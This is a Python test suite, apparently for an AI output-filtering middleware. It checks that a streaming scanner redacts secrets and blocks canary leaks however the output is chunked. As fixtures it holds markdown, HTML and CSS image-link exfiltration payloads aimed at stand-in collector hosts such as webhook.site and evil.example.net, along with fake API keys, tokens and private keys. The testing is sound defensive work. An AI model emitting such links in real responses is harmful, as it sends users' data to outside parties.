"""Streaming output check: nothing dangerous is ever partly emitted, at any chunking."""

from __future__ import annotations

import base64
import random

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from aimds_middleware import Action, Guard
from aimds_middleware.response.output import OutputPolicy
from aimds_middleware.response.stream import OutputStream

PREFIX = "Sure, here is what you asked for. The answer involves a few steps and some context.\n"
SUFFIX = "\nLet me know if you need anything else, I am happy to help with more details."

AWS = "AKIAZ3MHQ7XPLR4TW2NB"
GITHUB = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
JWT = ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ."
       "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U")
PEM = ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MaQkyLsNAu8K\n"
       "dGFzdGluZ3Rlc3RpbmcxMjM0NTY3ODkwYWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4\n-----END RSA PRIVATE KEY-----")
MD_IMAGE = "![chart](https://webhook.site/3f2a9c1e-77aa-4b1b-9f0e-1c2d3e4f5a6b?d=U2VjcmV0UGFzc3dvcmQxMjM0NTY3ODkw)"
MD_IMAGE_SPACED_ALT = "![a picture of the quarterly results chart](https://evil.example.net/p?q=aGVsbG8gd29ybGQgc2VjcmV0MTIzNDU2)"
HTML_IMG = '<img alt="x" src="https://collector.oastify.com/i?c=U2VjcmV0UGFzc3dvcmQxMjM0NTY3ODkw" width=1>'
REF_DEF = "[logo]: https://x.interact.sh/pixel?d=U2VjcmV0UGFzc3dvcmQxMjM0NTY3ODkw"

SANITIZED_CASES = [AWS, GITHUB, JWT, PEM, MD_IMAGE, MD_IMAGE_SPACED_ALT, HTML_IMG, REF_DEF,
                   'api_key = "q8Zr2LmX9vT4kP1wN7sB3dF6"', "card 4111 1111 1111 1111 ok",
                   "IBAN DE89 3704 0044 0532 0130 00", "mail john.doe@acme-corp.com now"]


@pytest.fixture(scope="module")
def guard() -> Guard:
    return Guard()


def run(stream, chunks) -> str:
    return "".join(stream.feed(c) for c in chunks) + stream.close()


def splits(text: str, lo: int, hi: int):
    for i in range(lo, hi + 1):
        yield [text[:i], text[i:]]


def longest_prefix_in(secret: str, out: str) -> int:
    n = 0
    while n < len(secret) and secret[: n + 1] in out:
        n += 1
    return n


@pytest.mark.parametrize("secret", SANITIZED_CASES, ids=lambda s: s[:12])
def test_split_at_every_position_equals_one_shot(guard: Guard, secret: str) -> None:
    text = PREFIX + secret + SUFFIX
    expected = guard.inspect_output(text).sanitized
    assert expected is not None and secret not in expected
    start = len(PREFIX)
    for chunks in splits(text, max(0, start - 3), start + len(secret) + 3):
        s = guard.output_stream()
        out = run(s, chunks)
        assert out == expected
        assert s.verdict is not None and s.verdict.action is Action.SANITIZE


LONG_CONSTRUCTS = [
    "![" + "a picture of the quarterly results " * 6 + "](https://evil.example.net/p?q=aGVsbG8gd29ybGQgc2VjcmV0MTIzNDU2)",
    '<img alt="' + "a long description with spaces " * 6 + '" src="https://x.oastify.com/a?b=1" >',
    ('<div style="color: red; margin: 0 auto; padding: 1em 2em; border: none; font-size: 12px; '
     'background-image: url(https://webhook.site/abc-def?d=U2VjcmV0UGFzc3dvcmQxMjM0NTY3ODkw)">x</div>'),
    "[" + "see the full report for details " * 5 + "](https://webhook.site/3f2a9c1e?leak=1)",
    PEM,
]


@pytest.mark.parametrize("construct", LONG_CONSTRUCTS, ids=lambda s: s[:12])
def test_open_constructs_longer_than_the_window_are_held(guard: Guard, construct: str) -> None:
    text = PREFIX + construct + SUFFIX
    expected = guard.inspect_output(text).sanitized
    assert expected is not None
    start = len(PREFIX)
    for chunks in splits(text, start, start + len(construct)):
        s = OutputStream(guard, window=32)
        assert run(s, chunks) == expected


@pytest.mark.parametrize("secret", SANITIZED_CASES, ids=lambda s: s[:12])
@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 16, 33, 64, 255, 1000])
def test_fixed_chunk_sizes(guard: Guard, secret: str, size: int) -> None:
    text = (PREFIX * 3) + secret + (SUFFIX * 3)
    expected = guard.inspect_output(text).sanitized
    s = guard.output_stream()
    out = run(s, [text[i:i + size] for i in range(0, len(text), size)])
    assert out == expected
    # the verdict's span points at the secret in the whole streamed text
    assert any(secret in text[t.span[0]:t.span[1]] or text[t.span[0]:t.span[1]] in secret
               for t in s.verdict.threats)


def canary_variants(token: str) -> list[str]:
    raw = token.encode()
    return [
        token,
        token.upper(),
        " ".join(token),
        "\u200b".join(token),
        "-".join(token[i:i + 4] for i in range(0, len(token), 4)),
        base64.b64encode(raw).decode(),
        base64.b64encode(b"leak:" + raw).decode(),
        raw.hex(),
    ]


def test_canary_is_never_partly_emitted(guard: Guard) -> None:
    token = guard.canary(session="s")
    for variant in canary_variants(token):
        text = PREFIX + variant + SUFFIX
        start = len(PREFIX)
        for chunks in splits(text, start - 2, start + len(variant) + 2):
            s = OutputStream(guard, session="s", replacement="[blocked]")
            out = run(s, chunks)
            assert s.blocked and s.verdict.action is Action.BLOCK
            assert out.endswith("[blocked]") and out.count("[blocked]") == 1
            released = out[: -len("[blocked]")]
            assert PREFIX.startswith(released)  # only text before the canary, never any of it
            assert longest_prefix_in(variant, released) <= 1


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(cuts=st.lists(st.integers(min_value=1, max_value=len(PREFIX + AWS + SUFFIX + MD_IMAGE)), max_size=25),
       which=st.sampled_from(SANITIZED_CASES))
def test_random_chunkings(guard: Guard, cuts: list[int], which: str) -> None:
    text = PREFIX + which + SUFFIX + " " + which + SUFFIX
    bounds = sorted({c for c in cuts if c < len(text)})
    chunks, prev = [], 0
    for b in bounds + [len(text)]:
        chunks.append(text[prev:b])
        prev = b
    s = guard.output_stream()
    assert run(s, chunks) == guard.inspect_output(text).sanitized


def test_blocked_stream_emits_nothing_more(guard: Guard) -> None:
    token = guard.canary()
    s = OutputStream(guard, replacement="[response withheld]")
    out = s.feed(PREFIX * 5)
    out += s.feed("leak " + token + " ")
    out += s.feed("more text " * 100)
    assert s.blocked
    assert s.feed("still more") == ""
    assert s.close() == ""
    assert out.count("[response withheld]") == 1 and token not in out
    assert s.verdict.blocked and "canary_leak" in s.verdict.categories


def test_clean_stream_passes_through_unchanged(guard: Guard) -> None:
    text = ("Here is some code:\n```python\nimport re\nx = [1, 2, 3]\nif a < b and c > d:\n    print(x)\n```\n"
            "See https://docs.python.org/3/library/re.html?highlight=sub#re.sub and [docs](https://example.com/a).\n"
            "Call 1.2.3.4 on port 8080; the year 2024 had 365 days. ") * 20
    for size in (1, 7, 64, 4096):
        s = guard.output_stream()
        assert run(s, [text[i:i + size] for i in range(0, len(text), size)]) == text
        assert s.verdict is None


def test_hold_back_is_bounded_on_huge_streams(guard: Guard) -> None:
    policy = guard._output_scanner().policy
    cap = policy.stream_max_hold
    rng = random.Random(7)
    words = ["alpha", "beta", "gamma", "delta", "https://example.com/x", "[note]", "<b>", "x=1", "\n"]
    s = guard.output_stream()
    total_in = total_out = 0
    for _ in range(300):
        chunk = " ".join(rng.choice(words) for _ in range(rng.randint(1, 400)))
        total_in += len(chunk)
        total_out += len(s.feed(chunk))
        assert len(s._pending) <= cap + len(chunk)
    total_out += len(s.close())
    assert total_out == total_in


@pytest.mark.parametrize("opener", ["![x](https://evil.example.net/", "<img src=\"https://evil.example.net/",
                                    "[", "aaaa", "-----BEGIN PRIVATE KEY-----\n"])
def test_never_closing_construct_is_bounded(guard: Guard, opener: str) -> None:
    s = OutputStream(guard, max_hold=2048, window=256)
    s.feed(opener)
    for _ in range(200):
        s.feed("Ab3dEf6hIj9kLm2n" * 4)
        assert len(s._pending) <= 2048 + 64
    s.close()
    if opener.startswith("-----BEGIN"):
        assert s.blocked  # a key body cut by the cap must not be released


def test_image_with_alt_text_longer_than_the_cap_still_loses_its_url(guard: Guard) -> None:
    url = "https://evil.example.net/p?q=aGVsbG8gd29ybGQgc2VjcmV0MTIzNDU2"
    text = PREFIX + "![" + "a very long description " * 40 + "](" + url + ")" + SUFFIX
    for size in (1, 7, 50):
        s = OutputStream(guard, window=64, max_hold=512)
        out = run(s, [text[i:i + size] for i in range(0, len(text), size)])
        assert "evil.example.net" not in out and out.endswith(SUFFIX)
        assert s.verdict.action is Action.SANITIZE


def test_private_key_longer_than_window_is_redacted_whole(guard: Guard) -> None:
    body = "\n".join("QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2" for _ in range(60))
    pem = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}\n-----END OPENSSH PRIVATE KEY-----"
    text = PREFIX + pem + SUFFIX
    s = guard.output_stream()
    out = run(s, [text[i:i + 5] for i in range(0, len(text), 5)])
    assert out == PREFIX + "[REDACTED:private_key]" + SUFFIX
    assert "QUJD" not in out


def test_stream_feed_errors(guard: Guard) -> None:
    s = guard.output_stream()
    with pytest.raises(TypeError):
        s.feed(123)  # type: ignore[arg-type]
    s.close()
    assert s.close() == ""
    with pytest.raises(RuntimeError):
        s.feed("x")
    with pytest.raises(TypeError):
        guard.output_stream(session=5)  # type: ignore[arg-type]


def test_stream_policy_from_guard_attribute() -> None:
    g = Guard()
    g.output_policy = OutputPolicy(stream_replacement="<withheld>", canary_action="block")
    token = g.canary()
    s = g.output_stream()
    assert run(s, [PREFIX, token, SUFFIX]).endswith("<withheld>")


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(chunks=st.lists(st.text(alphabet=st.characters(), max_size=300), max_size=20))
def test_never_raises_on_arbitrary_unicode(guard: Guard, chunks: list[str]) -> None:
    s = guard.output_stream()
    out = run(s, chunks)
    text = "".join(chunks)
    if s.verdict is None:
        assert out == text
    else:
        assert s.verdict.action in (Action.SANITIZE, Action.BLOCK, Action.ALLOW)


@pytest.mark.engine_errors_ok
def test_internal_error_fails_closed_or_open(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(text, session):
        raise RuntimeError("scanner exploded")

    for on_error, blocked in (("block", True), ("allow", False)):
        g = Guard(on_error=on_error)
        monkeypatch.setattr(g._output_scanner(), "scan", boom)
        s = g.output_stream()
        out = run(s, [PREFIX * 10, SUFFIX])
        assert s.blocked is blocked
        assert (out == "") if blocked else (out == PREFIX * 10 + SUFFIX)
        assert g.telemetry.errors.get("output_stream", 0) >= 1


def test_an_unclosed_tag_stays_held_while_later_tags_arrive(guard: Guard) -> None:
    """Every "<" after the last ">" is open: a second tag does not release the first."""
    s = OutputStream(guard, window=64, max_hold=4096)
    out = s.feed("<img alt=x " + "y" * 200 + " <img src=https://")
    assert "<img" not in out
    out += s.feed("webhook.site/?q=" + "z" * 100 + ">" + PREFIX * 4) + s.close()
    assert "webhook.site" not in out and "<img" not in out


SOUP = st.sampled_from(["![", "](", ")", "[", "]", "]:", "<img src=", "<", ">", "\"", "url(", "https://", "//", "?",
                        "&", "=", "webhook.site", "evil.com/", "{x}", "-----BEGIN PRIVATE KEY-----",
                        "-----END PRIVATE KEY-----", "\n", " ", AWS, "4111 1111 1111 1111", "jane@acme-corp.com",
                        "SGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA==", "\u200b", "words and more words "])


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(parts=st.lists(SOUP, max_size=120), size=st.integers(1, 40))
# found by hypothesis: an unclosed <img whose src= is not a URL, then a second <img with one; the
# one-shot match runs from the first "<img" to the second's URL, so the first must stay held
@example(parts=["![", "![", "![", "]", "<img src=", "-----BEGIN PRIVATE KEY-----", AWS, "<img src=", "https://", "!["],
         size=1)
def test_stream_equals_one_shot_on_markup_soup(guard: Guard, parts: list[str], size: int) -> None:
    """Whatever the chunking, the stream emits exactly what inspect_output would have (window ≥ 64)."""
    text = "".join(parts)
    v = guard.inspect_output(text)
    s = OutputStream(guard, window=64, max_hold=1024)
    out = run(s, [text[i:i + size] for i in range(0, len(text), size)])
    if v.action is Action.BLOCK or s.blocked:
        assert v.action is Action.BLOCK and s.blocked
        return
    assert out == (v.sanitized if v.action is Action.SANITIZE else text)


def test_actions_stricter_than_sanitize_stop_the_stream() -> None:
    g = Guard(category_actions={"pii": "review"})
    s = OutputStream(g, replacement="[held for review]")
    out = run(s, [PREFIX * 4, "write to jane.roe@acme-corp.com ", SUFFIX * 4])
    assert s.blocked and out.endswith("[held for review]") and "jane.roe" not in out
    assert "pii" in s.verdict.categories
